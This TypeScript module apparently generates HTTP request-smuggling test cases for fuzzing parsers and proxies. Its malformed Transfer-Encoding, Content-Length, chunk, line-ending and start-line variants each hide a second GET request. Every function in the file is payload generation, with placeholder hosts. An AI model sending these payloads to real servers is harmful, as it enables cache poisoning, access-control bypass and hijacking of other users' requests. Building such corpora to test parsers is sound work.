/**
 * Requests that are almost right: the kinds of mutation that published work on request smuggling tries, generated anew. Each
 * carries a second request where a reader that frames it differently would find one.
 */

/** The bytes (latin1) of one connection, for a mutation's name. */
export interface Mutation {
  readonly name: string;
  readonly bytes: string;
}

type Make = (tag: string) => string;

const CRLF = "\r\n";
const smuggled: Make = (tag) =>
  `GET /${tag}/smuggled HTTP/1.1\r\nHost: x\r\n\r\n`;
const bodies: readonly (readonly [string, Make])[] = [
  ["an early last chunk", (tag) => `0\r\n\r\n${smuggled(tag)}`],
  [
    "in a chunk",
    (tag) =>
      `${smuggled(tag).length.toString(16)}\r\n${smuggled(tag)}\r\n0\r\n\r\n`,
  ],
];

/** Every way of almost writing `Transfer-Encoding: chunked` as one or several lines. */
const codings: readonly string[] = [
  "Transfer-Encoding: chunked",
  "transfer-encoding:chunked",
  "TRANSFER-ENCODING:   CHUNKED  ",
  "Transfer-Encoding:\tchunked\t",
  " Transfer-Encoding: chunked",
  "\tTransfer-Encoding: chunked",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding\t: chunked",
  "Transfer-Encoding\v: chunked",
  "Transfer-Encoding\0: chunked",
  "Transfer Encoding: chunked",
  "Transfer_Encoding: chunked",
  "Transfer-Encoding:\vchunked",
  "Transfer-Encoding:\fchunked",
  "Transfer-Encoding:\0chunked",
  "Transfer-Encoding:\xa0chunked",
  "Transfer-Encoding: chunked\v",
  "Transfer-Encoding: chunked\0",
  "Transfer-Encoding: chun\xe2\x84\xaaed",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunkedx",
  "Transfer-Encoding: chunk",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  "Transfer-Encoding: chunked;q=1",
  "Transfer-Encoding: chunked,",
  "Transfer-Encoding: ,chunked",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: chunked, chunked",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: identity",
  "Transfer-Encoding:",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding\r\n: chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "X: y\r\n\rTransfer-Encoding: chunked",
  "X: y\r\r\nTransfer-Encoding: chunked",
  "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
  "Content-Encoding: chunked",
];

const lengthsOf = (body: string): readonly (string | undefined)[] => [
  undefined,
  `Content-Length: ${body.length}`,
  "Content-Length: 4",
  "Content-Length: 0",
];

function* codingsAndLengths(): Iterable<[string, Make]> {
  for (const coding of codings) {
    for (const [place, body] of bodies) {
      for (const i of [0, 1, 2, 3]) {
        yield [
          `${coding}; length ${i}; ${place}`,
          (tag) => {
            const text = body(tag);
            const length = lengthsOf(text)[i];
            const fields = [...(length === undefined ? [] : [length]), coding];
            // In either order.
            if (i === 2) fields.reverse();
            return request(tag, fields, text);
          },
        ];
      }
    }
  }
}

function request(tag: string, fields: readonly string[], body: string): string {
  return [`POST /${tag}/first HTTP/1.1`, "Host: x", ...fields, "", body].join(
    CRLF,
  );
}

const lengths: readonly string[] = [
  ...["+5", "-5", "0x5", "05", "5,5", "5, 5", "5;5", "5 5", "5\v", "5\0", "5a"],
  ...["5.0", "5e0", "1_0", "", "\xb2", '"5"', "18446744073709551621", "-0"],
  ..."5\n5|5\r5|5\r\n 5|\r\n 5|5\t".split("|"),
];

function* oddLengths(): Iterable<[string, Make]> {
  for (const length of lengths) {
    yield [
      `Content-Length: ${length}`,
      (tag) =>
        request(tag, [`Content-Length: ${length}`], `12345${smuggled(tag)}`),
    ];
  }
  for (const fields of [
    ["Content-Length: 5", "Content-Length: 5"],
    ["Content-Length: 5", "Content-Length: 0"],
    ["Content-Length: 0", "content-length: 5"],
    ["Content-Length : 5"],
    ["Content-Length\t: 5"],
    [" Content-Length: 5"],
    ["Content_Length: 5"],
    ["Content-Length\0: 5"],
    ["Connection: Content-Length", "Content-Length: 5"],
    ["X: y\nContent-Length: 5"],
    ["X: y\rContent-Length: 5"],
    ["Expect: 100-continue", "Content-Length: 5"],
    ["Upgrade: h2c", "Connection: Upgrade", "Content-Length: 5"],
    ["Upgrade: websocket", "Connection: Upgrade", "Content-Length: 5"],
  ]) {
    yield [
      fields.join(" & "),
      (tag) => request(tag, fields, `12345${smuggled(tag)}`),
    ];
  }
}

function* lineEnds(): Iterable<[string, Make]> {
  for (const end of [
    "\n",
    "\r",
    "\r\r\n",
    "\n\r",
    "\r\n\r",
    "\0\r\n",
    "\x85",
  ]) {
    for (const place of [0, 1, 2, 3]) {
      yield [
        `${JSON.stringify(end)} behind line ${place}`,
        (tag) =>
          [`POST /${tag}/first HTTP/1.1`, "Host: x", "Content-Length: 5", ""]
            .map((line, i) => line + (i === place ? end : CRLF))
            .join("") + `12345${smuggled(tag)}`,
      ];
    }
  }
}

const chunkings: readonly string[] = [
  ...'5 |5\t|5;|5; a|5;a=b|5;a="b|5;a="\r\n"|5;a\nb|5;\0|0x5|+5|-5|5,5| 5'.split(
    "|",
  ),
  ..."05|0000000000000005|10000000000000005|FFFFFFFFFFFFFFFF5|5\v|5h|".split(
    "|",
  ),
];

function* chunks(): Iterable<[string, Make]> {
  const make =
    (text: Make): Make =>
    (tag) =>
      request(tag, ["Transfer-Encoding: chunked"], text(tag));
  for (const size of chunkings) {
    yield [
      `chunk size ${size}`,
      make((tag) => `${size}\r\n12345\r\n0\r\n\r\n${smuggled(tag)}`),
    ];
  }
  for (const end of ["", "\n", "\r", "\n\r", "XX", "\r\r\n", "\r\n\r\n", "6"]) {
    yield [
      `chunk ends with ${JSON.stringify(end)}`,
      make((tag) => `5\r\n12345${end}0\r\n\r\n${smuggled(tag)}`),
    ];
    yield [
      `chunk size ends with ${JSON.stringify(end)}`,
      make((tag) => `5${end}12345\r\n0\r\n\r\n${smuggled(tag)}`),
    ];
    yield [
      `last chunk ends with ${JSON.stringify(end)}`,
      make((tag) => `5\r\n12345\r\n0${end}\r\n${smuggled(tag)}`),
    ];
  }
  for (const trailer of [
    "Content-Length: 5",
    "Transfer-Encoding: chunked",
    "Host: evil",
    "X: a\r\n b",
    "X : a",
    "X",
    "X: a\nY: b",
    "X: a\0",
    "X: a\r",
    "GET /evil HTTP/1.1",
  ]) {
    yield [
      `trailer ${trailer}`,
      make((tag) => `5\r\n12345\r\n0\r\n${trailer}\r\n\r\n${smuggled(tag)}`),
    ];
  }
}

function* startLines(): Iterable<[string, Make]> {
  for (const line of [
    ..."GET  /T HTTP/1.1|GET /T  HTTP/1.1| GET /T HTTP/1.1|GET\t/T HTTP/1.1".split(
      "|",
    ),
    ..."GET /T\tHTTP/1.1|GET /T HTTP/1.1 |GET /T|GET /T HTTP/1.1x|GET /T http/1.1".split(
      "|",
    ),
    ..."GET /T HTTP/1.10|GET /T HTTP/01.1|GET /T HTTP/1.0|GET /T HTTP/0.9".split(
      "|",
    ),
    ..."GET /T HTTP/2.0|GET /T\0 HTTP/1.1|GET /T\v HTTP/1.1|GET /T\rX HTTP/1.1".split(
      "|",
    ),
    ..."GET /T\nX: y HTTP/1.1|GET /T#x HTTP/1.1|GET x/T HTTP/1.1|GET http://x/T HTTP/1.1".split(
      "|",
    ),
    ..."GET http://y/T HTTP/1.1|get /T HTTP/1.1|GE\0T /T HTTP/1.1|POST /T HTTP/1.1".split(
      "|",
    ),
    ..."GET /T?\x7f HTTP/1.1|GET /T?\xff HTTP/1.1|CONNECT /T HTTP/1.1".split(
      "|",
    ),
    "GET /T HTTP/1.1\r\nHost: x\r\n\r\nGET /T HTTP/1.1",
    "\r\n\r\n\r\nGET /T HTTP/1.1",
    "\nGET /T HTTP/1.1",
  ]) {
    yield [
      line,
      (tag) =>
        `${line.replaceAll("/T", `/${tag}/first`)}\r\nHost: x\r\n\r\n${smuggled(tag)}`,
    ];
  }
}

function* oddBytes(): Iterable<[string, Make]> {
  const codes = [
    ...Array(32).keys(),
    34,
    40,
    44,
    47,
    58,
    64,
    91,
    127,
    128,
    160,
    255,
  ];
  for (const code of codes) {
    const byte = String.fromCharCode(code);
    const shown = JSON.stringify(byte);
    const around =
      (fields: string[]): Make =>
      (tag) =>
        request(tag, [...fields, "Content-Length: 5"], `12345${smuggled(tag)}`);
    yield [`${shown} in a name`, around([`X${byte}Y: a`])];
    yield [`${shown} before a name`, around([`${byte}X: a`])];
    yield [`${shown} in a value`, around([`X: a${byte}b`])];
    yield [
      `${shown} in Host`,
      (tag) =>
        request(tag, ["Content-Length: 5"], `12345${smuggled(tag)}`).replace(
          "Host: x",
          `Host: x${byte}y`,
        ),
    ];
  }
}

/** All of them, each with a tag of its own in its targets, and a last request that asks for the end. */
export function mutations(): Mutation[] {
  return [
    ...codingsAndLengths(),
    ...oddLengths(),
    ...lineEnds(),
    ...chunks(),
    ...startLines(),
    ...oddBytes(),
  ].map(([name, make], i) => {
    const tag = `m${i}-`;
    return {
      name: `${i}: ${name}`,
      bytes: `${make(tag)}GET /${tag}/last HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
    };
  });
}
